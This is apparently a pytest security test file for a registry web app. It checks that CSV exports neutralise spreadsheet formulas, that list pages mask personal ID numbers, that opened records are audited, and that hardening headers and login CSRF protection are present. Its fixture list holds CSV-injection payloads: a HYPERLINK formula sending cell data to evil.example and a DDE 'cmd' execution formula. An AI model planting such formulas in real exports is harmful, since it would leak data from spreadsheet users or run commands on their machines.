"""Holes 6, 7, 8: formulas in CSV exports, full personal IDs in lists, missing hardening."""

from __future__ import annotations

import csv
import io

from pcgd import db
from pcgd.common.csvcells import neutralise, restore
from pcgd.common.masking import mask_id
from pcgd.units import service as units
from surveys import importer
from tests.factories import login, make_user
from tests.security.conftest import YEAR, A, B, C, World, ids_of, roll_csv

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "=cmd|' /C calc'!A0",
            "+1+2", "@SUM(1)", "-2+3", "'=already quoted"]


def test_neutralise_and_restore_are_exact_inverses() -> None:
    for text in [*FORMULAS, "Nguyễn Văn A", "", "'", "''=x", "\tTab", "2015-07-07"]:
        written = neutralise(text)
        assert not str(written).startswith(("=", "+", "-", "@", "\t", "\r"))
        assert restore(str(written)) == text


def test_mask() -> None:
    assert mask_id("019012346893") == "0190••••6893"
    assert mask_id("") == "" and mask_id(None) == "" and mask_id("123") == "•••"


async def test_csv_export_carries_no_formula_and_round_trips(client, world: World) -> None:
    commune = await units.resolve("31123", YEAR, kind="commune")
    base = {"household_code": "F-1", "hamlet": "Ấp Công Thức", "residence_type": "thuong_tru"}
    rows = [{**base, "full_name": FORMULAS[0], "birth_date": "1980", "sex": "M",
             "relation": "chu_ho", "th_completed_year": "1991", "father_name": FORMULAS[1]}]
    rows += [{**base, "full_name": name, "birth_date": "1985", "sex": "F", "relation": "vợ",
              "th_completed_year": "1996"} for name in FORMULAS[2:-1]]
    assert (await importer.import_roll(roll_csv(rows), "f.csv", commune=commune,
                                       year=YEAR)).written
    await login(client, await make_user("commune", "31123", YEAR))
    got = await client.get(f"/communes/31123/export/roll.csv?year={YEAR}")
    assert got.status_code == 200
    assert got.headers["cache-control"] == "no-store"
    cells = [c for row in csv.reader(io.StringIO(got.content.decode("utf-8-sig"))) for c in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    print(f"\ncells that a spreadsheet would run: {len(dangerous)}")
    assert dangerous == []
    # The exported file imports back with nothing changed (the importer removes the quote).
    again = await importer.import_roll(got.content, "roll.csv", commune=commune, year=YEAR)
    assert again.written and not again.changes.any, again.errors
    names = {r["full_name"] for r in await db.pool().fetch(
        "SELECT p.full_name FROM person p JOIN person_year py ON py.person = p.id"
        " WHERE py.commune = $1", commune.id)}
    assert {FORMULAS[0], *FORMULAS[2:-1]} <= names


async def test_lists_mask_personal_ids_and_the_opened_household_is_audited(
    client, world: World
) -> None:
    await login(client, world.users["admin"])
    side = world.sides[A]
    head_id, child_id = ids_of(A)
    lists = [
        f"/api/registry/schools/{side.school}/learners?year={YEAR}",
        f"/registry/schools/{side.school}?year={YEAR}",
        f"/api/registry/communes/{A}/reconcile?year={YEAR}",
        f"/registry/reconcile?code={A}&year={YEAR}",
        f"/api/provinces/92/duplicates?year={YEAR}",
        f"/provinces/92/duplicates?year={YEAR}",
    ]
    shown, full = 0, 0
    pages = {url: await client.get(url, headers={"accept": "text/html"}) for url in lists}
    full = sum(p.text.count(head_id) + p.text.count(child_id) for p in pages.values())
    print(f"\nfull personal IDs of one household in {len(lists)} list pages: {full}")
    for url, page in pages.items():
        assert page.status_code == 200, (url, page.text[:300])
        assert head_id not in page.text and child_id not in page.text, url
        shown += mask_id(child_id) in page.text or mask_id(head_id) in page.text
    assert shown >= 2  # the learner list and the reconciliation list show the masked form
    before = await db.pool().fetchval(
        "SELECT count(*) FROM audit_entry WHERE action = 'view_personal'")
    opened = await client.get(f"/api/households/{side.household_id}")
    assert child_id in opened.text
    learner = await client.get(f"/api/registry/learners/{side.learner_id}?year={YEAR}")
    assert learner.status_code == 200 and learner.json()["personal_id"] == child_id
    after = await db.pool().fetchval(
        "SELECT count(*) FROM audit_entry WHERE action = 'view_personal'")
    assert after == before + 2
    await login(client, world.users["commune"])
    other = world.sides[C]
    assert (await client.get(f"/api/registry/learners/{other.learner_id}")).status_code == 403


async def test_hardening_headers_json_login_and_delete_version(client, world: World) -> None:
    page = await client.get("/login")
    for name in ("content-security-policy", "x-content-type-options", "x-frame-options",
                 "referrer-policy"):
        assert name in page.headers, name
    csp = page.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp
    assert "frame-ancestors 'none'" in csp and page.headers["cache-control"] == "no-store"
    static = await client.get("/static/app.css")
    assert static.headers.get("cache-control") != "no-store"
    # Login refuses a text/plain body (a cross-site form could post one: login CSRF).
    plain = await client.post("/api/auth/login", content='{"username":"x","password":"y"}',
                              headers={"content-type": "text/plain"})
    assert plain.status_code == 415
    await login(client, world.users["commune"])
    side = world.sides[A]
    url = f"/api/households/{side.household_id}"
    version = (await client.get(url)).json()["version"]
    assert (await client.delete(url)).status_code == 422  # no ?version=N
    assert (await client.delete(f"{url}?version={version - 1 or 99}")).status_code == 409
    # Out of scope and non-existent answer alike (no probing of ids).
    other = await client.get(f"/api/households/{world.sides[B].household_id}")
    missing = await client.get("/api/households/2000000000")
    huge = await client.get("/api/households/99999999999")
    assert other.status_code == missing.status_code == huge.status_code == 403
    assert other.json()["detail"] == missing.json()["detail"] == huge.json()["detail"]
